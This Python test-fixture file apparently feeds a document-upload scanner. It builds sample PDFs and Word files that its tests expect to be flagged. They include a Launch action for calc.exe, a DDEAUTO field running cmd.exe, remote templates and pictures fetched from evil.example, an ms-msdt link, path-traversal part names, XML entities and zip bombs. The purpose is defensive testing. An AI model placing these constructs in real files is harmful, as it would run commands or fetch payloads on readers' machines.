"""What can be wrong with a PDF or a Word file, each by the words for it, with the bytes that have it."""

from __future__ import annotations

import io
import stat
import zipfile
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.desk.files.made import (
    GOOD,
    WORD_TYPE,
    W,
    docx,
    enclosing,
    field,
    noted,
    opening,
    paragraph,
    parts,
    pdf,
    pdf_with,
    related,
    relations,
    script,
    zipped,
)


def _root(key: str, value: Callable[[pikepdf.Pdf], Any]) -> bytes:
    return pdf_with(lambda it: it.Root.__setitem__(key, value(it)))


def _link(**action: Any) -> bytes:
    return pdf_with(lambda it: noted(it, Subtype=Name.Link, A=Dictionary(**action)))


def _kind(subtype: str, **more: Any) -> bytes:
    return pdf_with(lambda it: noted(it, Subtype=Name(subtype), **more))


def _page(key: str, value: Callable[[], Any]) -> bytes:
    return pdf_with(lambda it: it.pages[0].obj.__setitem__(key, value()))


def _two_ways() -> bytes:
    """A PDF whose root says twice what is done when it is opened."""
    plain = pdf_with(
        lambda it: it.Root.__setitem__("/OpenAction", Array([])),
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
    )
    place = plain.index(b"/OpenAction [ ]")
    return plain[:place] + b"/Lang(e)/Lang(" + plain[place + 14 :].replace(b"]", b")", 1)


GOTO = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))

#: PDFs that act: what is said of each, and the bytes.
ACTING: dict[str, tuple[str, Callable[[], bytes]]] = {
    "script when opened": ("a script", lambda: opening(lambda _: script())),
    "script, apart": ("a script", lambda: opening(lambda it: it.make_indirect(script()))),
    "script after going to a page": (
        "a script",
        lambda: opening(lambda _: Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=script())),
    ),
    "script in a list after going": (
        "when it is opened",
        lambda: opening(lambda _: Dictionary(S=Name.GoTo, D=Array([0]), Next=Array([GOTO]))),
    ),
    "print when opened": (
        "when it is opened",
        lambda: opening(lambda _: Dictionary(S=Name.Named, N=Name.Print)),
    ),
    "web page when opened": (
        "when it is opened",
        lambda: opening(lambda _: Dictionary(S=Name.URI, URI=String("https://example.org"))),
    ),
    "scripts by name": (
        "a script",
        lambda: _root(
            "/Names", lambda it: Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))
        ),
    ),
    "script in a stream": (
        "a script",
        lambda: _link(S=Name.Other, JS=String("app.alert(1)")),
    ),
    "page that acts": ("start by themselves", lambda: _page("/AA", lambda: Dictionary(O=script()))),
    "file that acts on closing": (
        "start by themselves",
        lambda: _root("/AA", lambda _: Dictionary(WC=Dictionary(S=Name.GoTo, D=Array([0])))),
    ),
    "program": ("start a program", lambda: _link(S=Name.Launch, F=String("calc.exe"))),
    "file on a disk": ("a file on a disk", lambda: _link(S=Name.GoToR, F=String("\\\\evil\\share"))),
    "form that sends": (
        "send what a reader writes",
        lambda: _link(S=Name.SubmitForm, F=String("https://a.b")),
    ),
    "film": ("sound or film", lambda: _kind("/RichMedia")),
    "screen": ("sound or film", lambda: _kind("/Screen")),
    "film's settings": ("sound or film", lambda: _kind("/Link", RichMediaContent=Dictionary())),
    "model": ("three dimensions", lambda: _kind("/3D")),
    "pinned file": ("a file inside", lambda: _kind("/FileAttachment")),
    "file inside": ("a file inside", lambda: pdf_with(enclosing)),
    "form XFA": (
        "XFA",
        lambda: _root("/AcroForm", lambda it: Dictionary(XFA=it.make_stream(b"<xdp/>"), Fields=Array([]))),
    ),
    "link that is a script": (
        "starts something",
        lambda: _link(S=Name.URI, URI=String("JavaScript:alert(1)")),
    ),
    "link to a disk": ("starts something", lambda: _link(S=Name.URI, URI=String("file:///c:/x"))),
    "words from elsewhere": (
        "fetches from elsewhere",
        lambda: pdf_with(
            lambda it: it.add_blank_page().obj.__setitem__("/Contents", it.make_stream(b"", F="x"))
        ),
    ),
}

#: PDFs that do no more than hold words.
HARMLESS: dict[str, Callable[[], bytes]] = {
    "as it is": pdf,
    "goes to a page when opened": lambda: opening(lambda it: Array([it.pages[0].obj, Name.Fit])),
    "goes to a page by an action": lambda: opening(
        lambda it: Dictionary(S=Name.GoTo, D=Array([it.pages[0].obj, Name.Fit]))
    ),
    "links to the web": lambda: _link(S=Name.URI, URI=String("https://example.org/a?b=c")),
    "links to an e-mail": lambda: _link(S=Name.URI, URI=String("mailto:a@example.org")),
    "a font called AA": lambda: _page(
        "/Resources", lambda: Dictionary(Font=Dictionary(AA=Dictionary(Type=Name.Font)))
    ),
    "an empty list of files": lambda: _root(
        "/Names", lambda _: Dictionary(EmbeddedFiles=Dictionary(Names=Array([])))
    ),
    "a form to fill in": lambda: _root("/AcroForm", lambda _: Dictionary(Fields=Array([]))),
}


def _settings(body: str, rels: str = "") -> bytes:
    more = {"word/settings.xml": f'<w:settings xmlns:w="{W}">{body}</w:settings>'.encode()}
    if rels:
        more["word/_rels/settings.xml.rels"] = rels.encode()
    return docx(rels=relations(("settings", "settings.xml", "")), more=more)


_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"

#: Word files that do more than hold words.
ACTIVE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "macros": ("macros", lambda: docx(more={"word/vbaProject.bin": b"VBA"})),
    "macros by type": ("macros", lambda: docx(**{"/word/document.xml": _MACRO})),
    "macros by relationship": ("macros", lambda: related("vbaProject", "a.xml", "")),
    "macros under another name": (
        "macros",
        lambda: docx(
            more={"word/media/a.png": b"x"}, **{"/word/media/a.png": "application/vnd.ms-office.vbaProject"}
        ),
    ),
    "control": ("ActiveX", lambda: docx(more={"word/activeX/activeX1.xml": b"<ax/>"})),
    "program": ("no words, picture or font", lambda: docx(more={"word/media/a.exe": b"MZ"})),
    "object": ("another program", lambda: related("oleObject", "embeddings/a.xml", "")),
    "sheet": ("a file inside", lambda: docx(more={"word/embeddings/a.xlsx": b"PK"})),
    "template": (
        "a template",
        lambda: _settings(
            "", relations(("attachedTemplate", "https://evil.example/a.dotm", 'TargetMode="External"'))
        ),
    ),
    "picture from elsewhere": (
        "fetches from elsewhere",
        lambda: related("image", "https://evil.example/a.png"),
    ),
    "part by an address": (
        "fetches from elsewhere",
        lambda: related("image", "https://evil.example/a.png", ""),
    ),
    "part on a share": ("fetches from elsewhere", lambda: related("image", "\\\\evil\\a.png", "")),
    "frame": ("another document", lambda: related("frame", "https://evil.example")),
    "page inside": ("another document", lambda: related("aFChunk", "a.html", "")),
    "chunk": ("another document", lambda: docx('<w:altChunk r:id="r1"/>')),
    "link that starts": ("starts something", lambda: related("hyperlink", "ms-msdt:/id")),
    "link to a share": ("starts something", lambda: related("hyperlink", "file://evil/share")),
    "field DDE": ("a field", lambda: docx(field('DDEAUTO c:\\\\cmd.exe "/k calc"'))),
    "field DDE in pieces": ("a field", lambda: docx(field("DDE cmd a", pieces=9))),
    "simple field": ("a field", lambda: docx('<w:p><w:fldSimple w:instr=" dde a b"/></w:p>')),
    "field that is never closed": (
        "a field",
        lambda: docx(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE a</w:instrText></w:r></w:p>'
        ),
    ),
    "field without its marks": (
        "a field",
        lambda: docx("<w:p><w:r><w:instrText>DDE a</w:instrText></w:r></w:p>"),
    ),
    "field by numbers": ("a field", lambda: docx(field("QUOTE 68 68 69"))),
    "field named by a field": (
        "a field",
        lambda: docx(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>{field("REF a")}'),
    ),
    "picture field": ("a field", lambda: docx(field('INCLUDEPICTURE "https://evil.example/a"'))),
    "drawing with a script": (
        "a script",
        lambda: docx(
            more={"word/media/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'}
        ),
    ),
}


def _renamed(old: str, new: str) -> bytes:
    """The good Word file with the name of a part spelt otherwise, wherever it stands."""
    assert len(old) == len(new)
    return zipped(parts(), zipfile.ZIP_STORED).replace(old.encode(), new.encode())


def _as_link() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as folder:
        info = zipfile.ZipInfo("word/a.xml")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        folder.writestr(info, "document.xml")
    return out.getvalue()


def _locked() -> bytes:
    """The good Word file with every part marked as locked by a password."""
    data = bytearray(docx())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(mark)
        while place >= 0:
            data[place + at] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


def zip_of_zeros(size: int) -> bytes:
    """A Word file with a picture of so many zeros."""
    return docx(more={"word/media/a.png": bytes(size)})


_ENTITIES = '<!DOCTYPE a [<!ENTITY b "c">]>'
_ROOM = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)

#: Files that are refused for what they are: the rule, the name they come under, the bytes.
TRAPS: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "empty": ("file-empty", "a.pdf", lambda: b""),
    "large": ("file-too-large", "a.pdf", lambda: b"%PDF-1.7" + bytes(20_000_000)),
    "picture": ("file-type", "a.pdf", lambda: b"\x89PNG\r\n"),
    "program": ("file-type", "a.pdf", lambda: b"MZ\x90"),
    "web page": ("file-type", "a.pdf", lambda: b"<!DOCTYPE html>"),
    "text": ("file-type", "a.pdf", lambda: b"hello %PDF-1.7"),
    "old Word": ("file-type", "a.doc", lambda: _ROOM),
    "sheet": (
        "file-type",
        "a.docx",
        lambda: docx(
            **{"/word/document.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml+xml"}
        ),
    ),
    "zip": ("file-type", "a.docx", lambda: zipped({"a.txt": b"a"})),
    "PDF called Word": ("file-ending", "a.docx", pdf),
    "Word called PDF": ("file-ending", "a.pdf", docx),
    "two endings": ("file-ending", "a.pdf.exe", pdf),
    "no ending": ("file-ending", "guide", pdf),
    "half a PDF": ("file-damaged", "a.pdf", lambda: pdf()[: len(pdf()) // 2]),
    "PDF in name only": ("file-damaged", "a.pdf", lambda: b"%PDF-1.7 hello"),
    "said twice": ("file-damaged", "a.pdf", _two_ways),
    "half a Word file": ("file-damaged", "a.docx", lambda: docx()[:700]),
    "a letter changed": (
        "file-damaged",
        "a.docx",
        lambda: zipped(parts(), zipfile.ZIP_STORED).replace(b"worried", b"married"),
    ),
    "XML that is none": ("file-damaged", "a.docx", lambda: docx("<w:p>")),
    "locked PDF": (
        "file-encrypted",
        "a.pdf",
        lambda: pdf_with(lambda _: None, encryption=pikepdf.Encryption(user="a", owner="b")),
    ),
    "PDF locked against copying": (
        "file-encrypted",
        "a.pdf",
        lambda: pdf_with(lambda _: None, encryption=pikepdf.Encryption(user="", owner="b")),
    ),
    "locked Word": ("file-encrypted", "a.docx", lambda: _ROOM + "EncryptedPackage".encode("utf-16-le")),
    "locked parts": ("file-encrypted", "a.docx", _locked),
    "way up": ("file-parts", "a.docx", lambda: _renamed("word/styles.xml", "../../style.xml")),
    "way from the root": ("file-parts", "a.docx", lambda: _renamed("word/styles.xml", "/etc/styles.xml")),
    "way back": ("file-parts", "a.docx", lambda: _renamed("word/styles.xml", "word\\styles.xml")),
    "drive": ("file-parts", "a.docx", lambda: _renamed("word/styles.xml", "c:rd/styles.xml")),
    "end inside a name": ("file-parts", "a.docx", lambda: _renamed("word/styles.xml", "word/style\0.xml")),
    "two of a name": ("file-parts", "a.docx", lambda: docx(more={"WORD/Styles.xml": b"<a/>"})),
    "stands for another": ("file-parts", "a.docx", _as_link),
    "document type": (
        "file-xml",
        "a.docx",
        lambda: zipped(parts() | {"word/a.xml": f"{_ENTITIES}<a/>".encode()}),
    ),
    "type in UTF-16": (
        "file-xml",
        "a.docx",
        lambda: zipped(parts() | {"word/a.xml": f"{_ENTITIES}<a/>".encode("utf-16")}),
    ),
    "type in a picture": (
        "file-xml",
        "a.docx",
        lambda: zipped(parts() | {"word/media/a.png": f" {_ENTITIES}<a/>".encode()}),
    ),
    "too well packed": ("file-bomb", "a.docx", lambda: zip_of_zeros(3_000_000)),
    "too much": (
        "file-bomb",
        "a.docx",
        lambda: docx(more={f"word/media/{n}.png": bytes(1_000_000) for n in range(201)}),
    ),
    "too many parts": ("file-bomb", "a.docx", lambda: docx(more={f"word/{n}.xml": b"" for n in range(5001)})),
}

COMMENTED = docx(
    more={"word/comments.xml": f'<w:comments xmlns:w="{W}">{paragraph("Is this so?")}</w:comments>'.encode()},
    **{"/word/comments.xml": f"{WORD_TYPE}comments+xml"},
)
TRACKED = docx(f"<w:p><w:ins><w:r><w:t>New words</w:t></w:r></w:ins></w:p>{GOOD}")
UNTITLED = zipped({name: data for name, data in parts().items() if name != "docProps/core.xml"})
